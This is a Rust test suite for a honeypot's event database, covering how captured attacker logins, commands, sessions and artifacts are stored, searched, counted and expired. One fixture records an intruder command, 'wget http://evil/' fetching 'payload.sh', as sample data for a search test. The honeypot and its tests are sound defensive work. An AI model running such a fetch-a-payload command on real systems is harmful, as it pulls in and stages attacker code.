//! Storing, listing and filtering events, on a real database file.

use super::*;
use crate::db::credential::CredentialFilter;
use crate::db::sql;
use crate::db::testing::open;
use crate::model::Credential;

const PAGE: Page = Page {
    before: None,
    limit: 100,
};

fn event(n: u32, fields: Vec<(String, String)>) -> Event {
    Event {
        eid: format!("e{n}"),
        ts: Stamp(i64::from(n) * 1000),
        severity: Severity::Notice,
        decky: format!("decky-{}", n % 2),
        service: "ftp".into(),
        kind: "auth".into(),
        flow: (!n.is_multiple_of(3)).then(|| Flow {
            src: "198.51.100.7:4000".parse().unwrap(),
            dst: "[::1]:21".parse().unwrap(),
            proto: Proto::Tcp,
            session: format!("s{n}"),
        }),
        fields,
        msg: String::new(),
    }
}

fn login(n: u32, password: &[u8]) -> Event {
    event(n, Credential::plaintext(Some("root"), password).fields())
}

fn at(offset: u64) -> Checkpoint {
    Checkpoint {
        dev: 1,
        ino: 2,
        offset,
        mark: b"{\"eid\":\"e1\"".to_vec(),
    }
}

async fn insert(db: &Db, events: &[Event]) -> Inserted {
    db.log_insert_batch(events, "t", &at(7), Stamp(9))
        .await
        .unwrap()
}

#[tokio::test]
async fn events_come_back_as_they_went_in() {
    let (_dir, db) = open().await;
    let events: Vec<Event> = (1..200)
        .map(|n| {
            event(
                n,
                vec![
                    ("b".into(), format!("\u{0}\"%{n}")),
                    ("a".into(), "x".into()),
                ],
            )
        })
        .collect();
    assert_eq!(insert(&db, &events).await.logs, 199);
    let events = match db.pool.engine() {
        Engine::Sqlite => events,
        // It keeps no NUL.
        Engine::Postgres => fit::fitted(&events).unwrap(),
    };
    let rows = db.log_after(0, 1000, &LogFilter::default()).await.unwrap();
    let back: Vec<Event> = rows.iter().map(|r| r.event.clone()).collect();
    assert_eq!(back, events);
    assert_eq!(db.checkpoint_get("t").await.unwrap(), Some(at(7)));
    assert_eq!(db.log_latest_id().await.unwrap(), rows.last().unwrap().id);
    let newest = db.log_list(&LogFilter::default(), PAGE).await.unwrap();
    assert_eq!(newest.len(), 100);
    assert_eq!(newest[0].event, events[198]);
    let before = Some(newest[99].id);
    let rest = db
        .log_list(&LogFilter::default(), Page { before, limit: 100 })
        .await
        .unwrap();
    assert_eq!(rest.len(), 99);
    assert_eq!(rest[98].event, events[0]);
}

#[tokio::test]
async fn a_known_event_is_left_alone_and_its_credential_not_counted_again() {
    let (_dir, db) = open().await;
    let first = insert(&db, &[login(1, b"a"), login(1, b"a"), login(2, b"b")]).await;
    assert_eq!((first.logs, first.known), (2, 1));
    assert_eq!(first.credentials.len(), 2);
    let second = insert(&db, &[login(2, b"b"), login(4, b"b"), login(1, b"a")]).await;
    assert_eq!((second.logs, second.known), (1, 2));
    assert_eq!(second.credentials, vec![], "{second:?}");
    let rows = db
        .credential_list(&CredentialFilter::default(), PAGE)
        .await
        .unwrap();
    let mut counts: Vec<(String, i64, i64)> = rows
        .iter()
        .map(|r| (r.secret_printable.clone(), r.count, r.last_seen.0))
        .collect();
    counts.sort();
    assert_eq!(counts, vec![("a".into(), 1, 1000), ("b".into(), 2, 4000)]);
}

#[tokio::test]
async fn an_attacker_is_new_once_with_the_first_event_of_the_batch() {
    let (_dir, db) = open().await;
    // Later ones first: files of several deckies are read in turn.
    let stored = insert(&db, &[event(5, Vec::new()), event(4, Vec::new())]).await;
    assert_eq!(stored.attackers.len(), 1, "{stored:?}");
    let new = &stored.attackers[0];
    assert_eq!(
        (new.ip.as_str(), new.decky.as_str()),
        ("198.51.100.7", "decky-0")
    );
    assert_eq!(new.first_seen, Stamp(4000));
    let again = insert(&db, &[event(7, Vec::new())]).await;
    assert_eq!(again.attackers, []);
}

#[tokio::test]
async fn every_filter_selects_and_they_combine() {
    let (_dir, db) = open().await;
    let mut events: Vec<Event> = (1..=20).map(|n| login(n, b"pw")).collect();
    events[4].fields.push(("path".into(), "/A%b_c\"d".into()));
    events[5].msg = "Disk 100% full".into();
    insert(&db, &events).await;
    let count = |filter: LogFilter| {
        let db = db.clone();
        async move {
            let list = db.log_list(&filter, PAGE).await.unwrap();
            let after = db.log_after(0, 100, &filter).await.unwrap();
            assert_eq!(list.len(), after.len());
            list.len()
        }
    };
    let some = |s: &str| Some(s.to_owned());
    let f = LogFilter::default;
    assert_eq!(
        count(LogFilter {
            decky: some("decky-1"),
            ..f()
        })
        .await,
        10
    );
    assert_eq!(
        count(LogFilter {
            service: some("http"),
            ..f()
        })
        .await,
        0
    );
    assert_eq!(
        count(LogFilter {
            kind: some("auth"),
            ..f()
        })
        .await,
        20
    );
    assert_eq!(
        count(LogFilter {
            src_ip: some("198.51.100.7"),
            ..f()
        })
        .await,
        14
    );
    assert_eq!(
        count(LogFilter {
            session: some("s5"),
            ..f()
        })
        .await,
        1
    );
    assert_eq!(
        count(LogFilter {
            since: Some(Stamp(19_000)),
            ..f()
        })
        .await,
        2
    );
    assert_eq!(
        count(LogFilter {
            since: Some(Stamp(99_000)),
            ..f()
        })
        .await,
        0
    );
    assert_eq!(
        count(LogFilter {
            until: Some(Stamp(3000)),
            ..f()
        })
        .await,
        2
    );
    assert_eq!(
        count(LogFilter {
            since: Some(Stamp(2000)),
            until: Some(Stamp(5000)),
            decky: some("decky-0"),
            ..f()
        })
        .await,
        2
    );
    assert_eq!(
        count(LogFilter {
            words: vec!["a%B_C\"d".to_owned()],
            ..f()
        })
        .await,
        1
    );
    assert_eq!(
        count(LogFilter {
            words: vec!["axb".to_owned()],
            ..f()
        })
        .await,
        0
    );
    assert_eq!(
        count(LogFilter {
            words: vec!["0% FULL".to_owned()],
            ..f()
        })
        .await,
        1
    );
}

#[tokio::test]
async fn credentials_are_found_by_each_condition() {
    let (_dir, db) = open().await;
    insert(
        &db,
        &[
            login(1, b"a"),
            login(2, b"b"),
            login(3, b"b"),
            event(4, vec![]),
        ],
    )
    .await;
    let all = db
        .credential_list(&CredentialFilter::default(), PAGE)
        .await
        .unwrap();
    assert_eq!(all.len(), 3);
    let by_hash = CredentialFilter {
        secret_sha256: Some(
            all.iter()
                .find(|r| r.secret_printable == "b")
                .unwrap()
                .secret_sha256
                .clone(),
        ),
        ..CredentialFilter::default()
    };
    assert_eq!(db.credential_list(&by_hash, PAGE).await.unwrap().len(), 2);
    let by_peer = CredentialFilter {
        attacker_ip: Some("198.51.100.7".into()),
        principal: Some("root".into()),
        decky: Some("decky-1".into()),
        service: Some("ftp".into()),
        ..CredentialFilter::default()
    };
    assert_eq!(db.credential_list(&by_peer, PAGE).await.unwrap().len(), 1);
}

/// Batches that overlap, as a reader sends them after a crash.
async fn insert_twice(db: &Db, events: &[Event]) {
    insert(db, &events[..events.len() / 2 + 1]).await;
    insert(db, events).await;
}

#[tokio::test]
async fn what_events_add_up_to_counts_each_event_once() {
    let (_dir, db) = open().await;
    let mut events: Vec<Event> = (1..=20).map(|n| login(n, b"same")).collect();
    for event in &mut events {
        event.flow = event.flow.take().map(|flow| Flow {
            session: "one".into(),
            ..flow
        });
    }
    events[18].kind = "command".into();
    events[19].kind = "disconnect".into();
    events[18].fields = vec![
        ("sha256".into(), "ab".repeat(32)),
        ("stored".into(), "true".into()),
        ("size".into(), "7".into()),
        ("path".into(), "/tmp/x".into()),
    ];
    insert_twice(&db, &events).await;
    assert_eq!(db.log_count().await.unwrap(), 20);
    // Every third event has no peer: 14 of 20 count for the attacker.
    let who = db.attacker_get("198.51.100.7").await.unwrap().unwrap();
    assert_eq!(who.event_count, 14);
    assert_eq!(
        (who.session_count, who.command_count, who.artifact_count),
        (1, 1, 1)
    );
    assert_eq!((who.service_count, who.decky_count), (1, 2));
    assert_eq!(who.credential_count, 2, "one on each decky");
    assert_eq!(
        (who.first_seen, who.last_seen),
        (Stamp(1000), Stamp(20_000))
    );
    let session = db.attack_session_get("one").await.unwrap().unwrap();
    assert_eq!((session.events, session.commands), (14, 1));
    assert_eq!(session.ended_at, Some(Stamp(20_000)));
    let file = db.artifact_get(&"ab".repeat(32)).await.unwrap().unwrap();
    assert_eq!(
        (file.count, file.size_bytes, file.name.as_str()),
        (1, 7, "/tmp/x")
    );
    let path = db.attacker_deckies("198.51.100.7").await.unwrap();
    assert_eq!(path[0].decky, "decky-1", "where it was first");
    let sum: i64 = db
        .log_histogram(&LogFilter::default(), Stamp(0), Stamp(60_000_000), 1)
        .await
        .unwrap()
        .iter()
        .map(|bucket| bucket.count)
        .sum();
    assert_eq!(sum, 20);
}

#[tokio::test]
async fn words_are_found_before_and_after_they_are_indexed() {
    let (_dir, db) = open().await;
    let said = |n, text: &str| event(n, vec![("cmd".into(), text.into())]);
    insert(
        &db,
        &[
            said(1, "wget http://evil/\npayload.sh"),
            said(2, "ls -la"),
            said(4, "WGET again"),
        ],
    )
    .await;
    for round in 0..2 {
        let count = async |word: &str| {
            let filter = LogFilter {
                words: vec![word.to_owned()],
                ..LogFilter::default()
            };
            db.log_list(&filter, PAGE).await.unwrap().len()
        };
        assert_eq!(count("wget").await, 2, "round {round}");
        assert_eq!(count("payload").await, 1);
        assert_eq!(count("payload.sh").await, 1);
        assert_eq!(count("198.51.100").await, 3);
        assert_eq!(count("nothing").await, 0);
        // Whatever script it is written in, a search is an answer.
        assert_eq!(count("नमस्ते").await, 0);
        assert_eq!(count("wgé").await, 0);
        let field = LogFilter {
            fields: vec![("cmd".into(), "ls -la".into())],
            ..LogFilter::default()
        };
        assert_eq!(db.log_list(&field, PAGE).await.unwrap().len(), 1);
        while db.log_index_words().await.unwrap() > 0 {}
    }
}

#[tokio::test]
async fn what_is_too_old_goes_with_its_words_and_counts() {
    let (_dir, db) = open().await;
    let events: Vec<Event> = (1..=100).map(|n| login(n, b"x")).collect();
    insert(&db, &events).await;
    while db.log_index_words().await.unwrap() > 0 {}
    assert_eq!(db.log_expire(Stamp(51_000)).await.unwrap(), 50);
    assert_eq!(db.log_expire(Stamp(51_000)).await.unwrap(), 0);
    assert_eq!(db.log_count().await.unwrap(), 50);
    let filter = LogFilter {
        words: vec!["root".to_owned()],
        ..LogFilter::default()
    };
    assert_eq!(db.log_list(&filter, PAGE).await.unwrap().len(), 50);
}

#[tokio::test]
async fn events_of_an_older_version_are_taken_in_once() {
    let (_dir, db) = open().await;
    let events: Vec<Event> = (1..=30).map(|n| login(n, b"x")).collect();
    insert(&db, &events).await;
    let before = db.attacker_get("198.51.100.7").await.unwrap().unwrap();
    // As the migration leaves a database that already holds events.
    for sql in [
        "delete from attackers",
        "delete from attacker_services",
        "delete from attacker_deckies",
        "delete from attack_sessions",
        "delete from log_minutes",
        "update counters set value = (select max(id) from logs) where name = 'backlog'",
    ] {
        sql::query(sql).execute(&db.pool).await.unwrap();
    }
    insert(&db, &[login(31, b"x")]).await;
    while db.log_gather_backlog().await.unwrap() > 0 {}
    let after = db.attacker_get("198.51.100.7").await.unwrap().unwrap();
    assert_eq!(after.event_count, before.event_count + 1);
    assert_eq!(after.session_count, before.session_count + 1);
    assert_eq!(after.credential_count, before.credential_count);
}

#[tokio::test]
async fn attackers_from_before_countries_were_known_are_located() {
    let (_dir, db) = open().await;
    let from = |n: u32, ip: &str| {
        let mut event = login(n, b"x");
        event.flow.as_mut().unwrap().src.set_ip(ip.parse().unwrap());
        event
    };
    let events = [
        from(1, "193.0.6.139"),
        from(2, "10.1.2.3"),
        from(4, "2001:67c:2e8::1"),
    ];
    insert(&db, &events).await;
    let country = async |ip: &str| db.attacker_get(ip).await.unwrap().unwrap().country;
    assert_eq!(country("193.0.6.139").await.as_deref(), Some("NL"));
    sql::query("update attackers set country = null")
        .execute(&db.pool)
        .await
        .unwrap();
    let mut after = Some(String::new());
    while let Some(last) = &after {
        after = db.attacker_locate(last).await.unwrap();
    }
    assert_eq!(country("193.0.6.139").await.as_deref(), Some("NL"));
    assert_eq!(country("2001:67c:2e8::1").await.as_deref(), Some("NL"));
    assert_eq!(country("10.1.2.3").await, None);
    assert_eq!(db.attacker_countries().await.unwrap()[0].0, "NL");
}

#[tokio::test]
async fn what_is_frequent_is_found_like_what_is_rare() {
    let (_dir, db) = open().await;
    let said = |n, text: &str| event(n, vec![("cmd".into(), text.into())]);
    let mut events: Vec<Event> = (1..=1500).map(|n| said(n, "often hoften")).collect();
    events.extend((1501..=1700).map(|n| said(n, "hoften")));
    events[7] = said(8, "often once");
    insert(&db, &events).await;
    while db.log_index_words().await.unwrap() > 0 {}
    for (word, found) in [("often", 1500), ("OFT", 1500), ("once", 1), ("nce", 0)] {
        let filter = LogFilter {
            words: vec![word.to_owned()],
            ..LogFilter::default()
        };
        let (mut ids, mut before) = (Vec::new(), None);
        loop {
            let page = Page { before, limit: 70 };
            let rows = db.log_list(&filter, page).await.unwrap();
            ids.extend(rows.iter().map(|row| row.id));
            before = rows.last().map(|row| row.id);
            if rows.len() < 70 {
                break;
            }
        }
        assert!(ids.is_sorted_by(|a, b| a > b), "{word}");
        assert_eq!(ids.len(), found, "{word}");
    }
}

#[tokio::test]
async fn a_time_holds_what_came_late() {
    let (_dir, db) = open().await;
    let hour = |n: u32, hour: i64| Event {
        ts: Stamp(hour * super::hour::HOUR + 1),
        ..event(n, Vec::new())
    };
    insert(&db, &[hour(1, 5), hour(2, 6)]).await;
    insert(&db, &[hour(3, 9), hour(4, 5)]).await;
    insert(&db, &[hour(5, 9)]).await;
    let found = async |since: Option<i64>, until: Option<i64>| {
        let at = |hour: i64| Stamp(hour * super::hour::HOUR);
        let filter = LogFilter {
            since: since.map(at),
            until: until.map(at),
            ..LogFilter::default()
        };
        let rows = db.log_list(&filter, PAGE).await.unwrap();
        rows.iter()
            .map(|row| row.event.eid.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(found(Some(5), Some(6)).await, ["e4", "e1"]);
    assert_eq!(found(Some(6), None).await, ["e5", "e3", "e2"]);
    assert_eq!(found(None, Some(9)).await, ["e4", "e2", "e1"]);
    assert!(found(Some(10), None).await.is_empty());
    assert!(found(None, Some(5)).await.is_empty());
    assert_eq!(db.attack_session_count().await.unwrap(), 4);
    db.log_expire(Stamp(6 * super::hour::HOUR)).await.unwrap();
    assert_eq!(db.attack_session_count().await.unwrap(), 2);
    assert_eq!(found(Some(1), Some(12)).await, ["e5", "e3", "e2"]);
}

#[tokio::test]
async fn a_secret_is_counted_in_each_place_once() {
    let (_dir, db) = open().await;
    let from = |n: u32, ip: &str, name: &str| {
        let mut event = event(n, Credential::plaintext(Some(name), b"x").fields());
        event.flow = Some(Flow {
            src: format!("{ip}:4000").parse().unwrap(),
            dst: "127.0.0.1:21".parse().unwrap(),
            proto: Proto::Tcp,
            session: format!("s{n}"),
        });
        event
    };
    insert(&db, &[from(1, "192.0.2.1", "root"), login(3, b"alone")]).await;
    assert!(db.secret_reuse(PAGE).await.unwrap().is_empty());
    insert(
        &db,
        &[from(5, "192.0.2.1", "root"), from(7, "192.0.2.2", "anna")],
    )
    .await;
    insert(
        &db,
        &[from(8, "192.0.2.2", "root"), from(8, "192.0.2.2", "root")],
    )
    .await;
    let found = db.secret_reuse(PAGE).await.unwrap();
    let [row] = found.as_slice() else {
        panic!("{found:?}");
    };
    let counts = (row.attackers, row.deckies, row.services, row.attempts);
    assert_eq!(counts, (2, 2, 1, 4));
    assert_eq!((row.first_seen, row.last_seen), (Stamp(1000), Stamp(8000)));
    let names = db.secret_principals(row.id).await.unwrap();
    assert_eq!(names, ["anna", "root"]);
    let before = Some(row.n);
    let rest = db.secret_reuse(Page { before, limit: 5 }).await.unwrap();
    assert!(rest.is_empty());
}
